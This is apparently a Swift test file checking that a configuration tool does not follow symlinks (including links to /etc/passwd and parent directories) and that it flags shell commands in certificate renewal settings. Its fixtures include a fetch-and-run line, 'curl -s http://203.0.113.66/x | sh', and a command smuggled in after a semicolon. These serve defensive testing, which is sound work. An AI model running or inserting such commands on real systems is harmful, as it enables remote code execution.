import Foundation
import PhoenixTesting
import Testing

@testable import PhoenixCore

/// Issue #12, L3: `validate PATH` and `render --path` read a checkout, where `git clone` makes real
/// symlinks. A symlink is read as git stores it (a file holding the link text), never followed.
@Suite struct CheckoutSymlinkTests {
    @Test func aLinkToAHostFileIsReadAsItsTargetText() throws {
        let scratch = try ScratchDirectory(prefix: "phoenix-core")
        defer { scratch.remove() }
        try ConfigFixture().write(to: scratch)
        let link = scratch.url.appendingPathComponent("stacks/demo/passwd")
        try FileManager.default.createSymbolicLink(atPath: link.path, withDestinationPath: "/etc/passwd")
        let source = FolderSource(root: scratch.url)
        #expect(try source.read("stacks/demo/passwd") == Data("/etc/passwd".utf8))
        let entries = try source.list("stacks/demo")
        #expect(entries.contains(ConfigSourceEntry(name: "passwd", isFolder: false)))
        let snapshot = try #require(ConfigLoader.load(from: source).snapshot)
        let file = try #require(snapshot.stack(named: "demo")?.files.first { $0.relativePath == "passwd" })
        #expect(file.bytes == Data("/etc/passwd".utf8))
    }

    @Test func symlinkedFoldersAreNeverEntered() throws {
        let scratch = try ScratchDirectory(prefix: "phoenix-core")
        defer { scratch.remove() }
        try ConfigFixture().write(to: scratch)
        let demo = scratch.url.appendingPathComponent("stacks/demo").path
        // Two `.` links: followed, they give 2^depth paths and the walk never ends.
        try FileManager.default.createSymbolicLink(atPath: demo + "/a", withDestinationPath: ".")
        try FileManager.default.createSymbolicLink(atPath: demo + "/b", withDestinationPath: ".")
        try FileManager.default.createSymbolicLink(atPath: demo + "/up", withDestinationPath: "../../..")
        let source = FolderSource(root: scratch.url)
        #expect(try source.list("stacks/demo/a").isEmpty)
        #expect(try source.read("stacks/demo/up/etc/passwd") == nil)
        let snapshot = try #require(ConfigLoader.load(from: source).snapshot)
        let names = snapshot.stack(named: "demo")?.files.map(\.relativePath).sorted()
        #expect(names == ["a", "b", "docker-compose.yml", "up"])
    }
}

/// Issue #12, H2: every shell command of a configuration is shown to whoever validates it.
@Suite struct RepositoryCommandFindingsTests {
    static func snapshot(_ certificates: String) throws -> ConfigSnapshot {
        let scratch = try ScratchDirectory(prefix: "phoenix-core")
        defer { scratch.remove() }
        var fixture = ConfigFixture()
        fixture.certificates = certificates
        try fixture.write(to: scratch)
        return try #require(ConfigLoader.load(from: FolderSource(root: scratch.url)).snapshot)
    }

    static let old = """
        [{"common_name": "a.test", "cert_path": "/c/a.crt", "key_path": "/c/a.key", "post_renewal_command": "systemctl reload nginx"},
         {"common_name": "b.test", "cert_path": "/c/b.crt", "key_path": "/c/b.key"}]
        """
    static let new = """
        [{"common_name": "a.test", "cert_path": "/c/a.crt", "key_path": "/c/a.key", "post_renewal_command": "systemctl reload nginx; id"},
         {"common_name": "b.test", "cert_path": "/c/b.crt", "key_path": "/c/b.key",
          "post_renewal_command": "curl -s http://203.0.113.66/x | sh"},
         {"common_name": "c.test", "cert_path": "/c/c.crt", "key_path": "/c/c.key", "post_renewal_command": "true"}]
        """

    @Test func newOrChangedCommandsAreWarningsAgainstABase() throws {
        let findings = RepositoryCommandFindings.findings(
            try Self.snapshot(Self.new), base: try Self.snapshot(Self.old), compared: true)
        #expect(findings.map(\.severity) == [.warning, .warning, .warning])
        #expect(findings.allSatisfy { $0.code == RepositoryCommandFindings.code })
        #expect(findings.map { $0.pointer?.description } == ["/0/post_renewal_command", "/1/post_renewal_command", "/2/post_renewal_command"])
        #expect(findings[0].message.contains("post_renewal_command changed: \"systemctl reload nginx; id\""))
        #expect(findings[1].message.contains("post_renewal_command new: \"curl -s http://203.0.113.66/x | sh\""))
        #expect(findings[2].message.contains("post_renewal_command new: \"true\""))
        let same = RepositoryCommandFindings.findings(try Self.snapshot(Self.old), base: try Self.snapshot(Self.old), compared: true)
        #expect(same.isEmpty)
        #expect(findings.allSatisfy { $0.line != nil && $0.file == ConfigFixture.certificatesPath })
    }

    @Test func withoutABaseEveryCommandIsListed() throws {
        let findings = RepositoryCommandFindings.findings(try Self.snapshot(Self.new), base: nil, compared: false)
        #expect(findings.count == 3)
        #expect(findings.allSatisfy { $0.severity == .info })
        let unloadable = RepositoryCommandFindings.findings(try Self.snapshot(Self.new), base: nil, compared: true)
        #expect(unloadable.count == 3 && unloadable.allSatisfy { $0.severity == .warning })
    }
}
